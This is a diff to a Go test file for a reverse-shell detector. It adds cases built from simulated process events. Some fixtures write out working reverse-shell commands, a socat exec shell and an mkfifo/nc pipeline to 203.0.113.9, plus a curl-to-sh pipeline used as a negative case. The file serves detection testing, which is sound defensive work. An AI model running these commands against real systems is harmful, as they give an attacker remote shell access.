@@ -70,6 +70,50 @@ func TestDetections(t *testing.T) {
 			want: []string{"runtime-reverse-shell: \"bash -i\" (pid 102, parent bash (pid 101)) started with stdin, stdout and stderr connected to TCP to 203.0.113.9:4445"},
 		},
 		{
+			name: "socat exec: the shell's stdio is a pty, socat holds the socket",
+			events: []*event.Event{
+				execEv(800, 1, inPod, "/usr/bin/socat", []string{"socat", "tcp:203.0.113.9:4444", "exec:/bin/sh,pty"}, [3]event.FD{}, nil),
+				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 800, PPID: 1}, Conn: &event.Conn{Socket: *peer, Established: true}},
+				execEv(801, 800, inPod, "/bin/sh", []string{"/bin/sh"}, [3]event.FD{}, nil),
+			},
+			want: []string{"runtime-reverse-shell: \"/bin/sh\" (pid 801, parent socat (pid 800)) started by the network relay socat (pid 800), which relays it to TCP to 203.0.113.9:4444"},
+		},
+		{
+			name: "a shell started by socat without a connection is not a reverse shell",
+			events: []*event.Event{
+				execEv(810, 1, inPod, "/usr/bin/socat", []string{"socat", "unix-listen:/run/x", "exec:/bin/sh"}, [3]event.FD{}, nil),
+				execEv(811, 810, inPod, "/bin/sh", []string{"/bin/sh"}, [3]event.FD{}, nil),
+			},
+		},
+		{
+			name: "a shell whose parent web server has connections is not a relay",
+			events: []*event.Event{
+				execEv(820, 1, inPod, "/usr/sbin/nginx", []string{"nginx"}, [3]event.FD{}, nil),
+				{Kind: event.KindAccept, Origin: inPod, Process: event.Process{PID: 820, PPID: 1}, Conn: &event.Conn{Socket: *peer, Established: true}},
+				execEv(821, 820, inPod, "/bin/sh", []string{"sh", "-c", "logrotate"}, [3]event.FD{}, nil),
+			},
+		},
+		{
+			name: "mkfifo relay: sh -i and nc are siblings in a pipeline",
+			events: []*event.Event{
+				execEv(900, 1, inPod, "/bin/sh", []string{"sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"}, [3]event.FD{}, nil),
+				execEv(901, 900, inPod, "/bin/cat", []string{"cat", "/tmp/f"}, [3]event.FD{}, nil),
+				execEv(902, 900, inPod, "/bin/sh", []string{"sh", "-i"}, [3]event.FD{}, nil),
+				execEv(903, 900, inPod, "/bin/nc", []string{"nc", "203.0.113.9", "4444"}, [3]event.FD{}, nil),
+				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 903, PPID: 900}, Conn: &event.Conn{Socket: *peer, Established: true}},
+			},
+			want: []string{"runtime-reverse-shell: \"sh -i\" (pid 902, parent pid 900) runs in a pipeline with the network relay nc (pid 903), which connected it to TCP to 203.0.113.9:4444"},
+		},
+		{
+			name: "a pipeline of a shell and curl is not a relay",
+			events: []*event.Event{
+				execEv(910, 1, inPod, "/bin/sh", []string{"sh", "-c", "curl x | sh"}, [3]event.FD{}, nil),
+				execEv(911, 910, inPod, "/bin/sh", []string{"sh"}, [3]event.FD{}, nil),
+				execEv(912, 910, inPod, "/usr/bin/curl", []string{"curl", "x"}, [3]event.FD{}, nil),
+				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 912, PPID: 910}, Conn: &event.Conn{Socket: *peer, Established: true}},
+			},
+		},
+		{
 			name:   "a shell on the node is caught too",
 			events: []*event.Event{execEv(7, 1, onHost, "/bin/sh", []string{"sh"}, [3]event.FD{tcp, tcp, {}}, peer)},
 			want:   []string{"runtime-reverse-shell: \"sh\" (pid 7, parent pid 1) started with stdin and stdout"},
